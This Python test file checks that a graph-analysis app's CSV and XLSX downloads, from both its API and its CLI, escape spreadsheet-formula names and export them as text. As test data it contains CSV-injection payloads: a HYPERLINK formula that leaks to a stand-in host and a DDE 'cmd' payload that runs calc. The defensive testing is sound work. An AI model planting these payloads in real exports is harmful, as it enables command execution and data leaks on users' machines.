"""CSV injection, end to end: names in the graph that Excel would run as formulas (``=``, ``+``, ``-``,
``@``) come out of every download — CSV and XLSX, from the API and from ``revkg analyze --out`` — as
text, never as a formula.

No loader lets such a name in today (report extraction needs Chinese name characters; register
cells are another round's subject), so the test writes the names into the demo graph directly.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from neo4j import Driver
from typer.testing import CliRunner

from tests.conftest import reset_to_spine
from tests.factories import AS_OF, Chongming, build_chongming

pytestmark = pytest.mark.neo4j

K = Chongming()
HOSTILE = {
    "helper": '=HYPERLINK("http://x.example/?leak","点我")',
    "bank": "@SUM(1+1)*cmd|' /C calc'!A0",
    "village": "+彷徨村",
    "town": "-新河镇",
    "category": "=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Every download: (API path, CLI arguments). Codes, not names, select the scope, since names are hostile.
DOWNLOADS = [
    ("/analyses/uncovered-weak-villages?district=310151", ["uncovered", "--district", "310151"]),
    ("/analyses/coverage?parent=310151&level=town", ["coverage", "--parent", "310151", "--level", "town"]),
    ("/analyses/helper-load?district=310151", ["helpers", "--district", "310151"]),
    (f"/analyses/pairing-suggestions?village={K.panghuang}", ["suggest", "--village", K.panghuang]),
    ("/analyses/shared-resource-clusters?district=310151", ["clusters", "--district", "310151"]),
]


@pytest.fixture
def hostile_graph(graph: Driver) -> Iterator[Driver]:
    from neomodel import db as neomodel_db

    reset_to_spine(graph)
    build_chongming(graph)
    # The village and the town belong to the gazetteer's spine, which outlives the test: keep what they held.
    village = graph.execute_query(
        "MATCH (v:Village {code: $code}) RETURN v.name AS name, v.weak_categories AS categories", code=K.panghuang
    ).records[0]
    town = graph.execute_query("MATCH (t:Town {code: '310151103'}) RETURN t.name AS name").records[0]["name"]
    graph.execute_query("MATCH (o {uid: $uid}) SET o.name = $name", uid=K.civil_affairs, name=HOSTILE["helper"])
    graph.execute_query("MATCH (o {uid: $uid}) SET o.name = $name", uid=K.bank, name=HOSTILE["bank"])
    graph.execute_query(
        "MATCH (v:Village {code: $code}) SET v.name = $name, v.weak_categories = [$category, '经济薄弱村']",
        code=K.panghuang,
        name=HOSTILE["village"],
        category=HOSTILE["category"],
    )
    graph.execute_query("MATCH (t:Town {code: '310151103'}) SET t.name = $name", name=HOSTILE["town"])
    try:
        yield graph
    finally:
        neomodel_db.set_connection(driver=graph)
        graph.execute_query(
            "MATCH (v:Village {code: $code}) SET v.name = $name, v.weak_categories = $categories",
            code=K.panghuang,
            name=village["name"],
            categories=village["categories"],
        )
        graph.execute_query("MATCH (t:Town {code: '310151103'}) SET t.name = $name", name=town)
        reset_to_spine(graph)


def csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def xlsx_cells(data: bytes) -> list[str]:
    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets), "a formula cell"
    cells = []
    for row in load_workbook(io.BytesIO(data)).active.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
            if isinstance(c.value, str):
                cells.append(c.value)
    return cells


def assert_no_formula(cells: list[str], where: str) -> set[str]:
    """No cell would run as a formula; returns the hostile names found escaped."""
    for value in cells:
        if value.startswith(FORMULA_START):
            try:
                float(value)  # a negative number is a number, not a formula
            except ValueError:
                raise AssertionError(f"{where}: cell {value!r} would run as a formula") from None
    return {name for name in HOSTILE.values() if any(c.startswith("'" + name) or ("; '" + name) in c for c in cells)}


def test_every_api_download_keeps_formula_names_as_text(hostile_graph: Driver) -> None:
    from api.main import app

    seen: set[str] = set()
    with TestClient(app) as client:
        for path, _ in DOWNLOADS:
            for fmt, cells_of in (("csv", csv_cells), ("xlsx", xlsx_cells)):
                response = client.get(f"{path}&format={fmt}&as_of={AS_OF.isoformat()}&limit=10000")
                assert response.status_code == 200, (path, fmt, response.text[:300])
                seen |= assert_no_formula(cells_of(response.content), f"GET {path} {fmt}")
    assert seen == set(HOSTILE.values()), f"hostile names never exported: {set(HOSTILE.values()) - seen}"


def test_every_cli_download_keeps_formula_names_as_text(hostile_graph: Driver, tmp_path: Path) -> None:
    from api.cli import app

    runner = CliRunner()
    seen: set[str] = set()
    for _, args in DOWNLOADS:
        for suffix, cells_of in ((".csv", csv_cells), (".xlsx", xlsx_cells)):
            out = tmp_path / f"{args[0]}{suffix}"
            result = runner.invoke(app, ["analyze", *args, "--as-of", AS_OF.isoformat(), "--out", str(out)])
            assert result.exit_code == 0, (args, result.output)
            seen |= assert_no_formula(cells_of(out.read_bytes()), f"revkg analyze {' '.join(args)} {suffix}")
    assert seen == set(HOSTILE.values()), f"hostile names never exported: {set(HOSTILE.values()) - seen}"
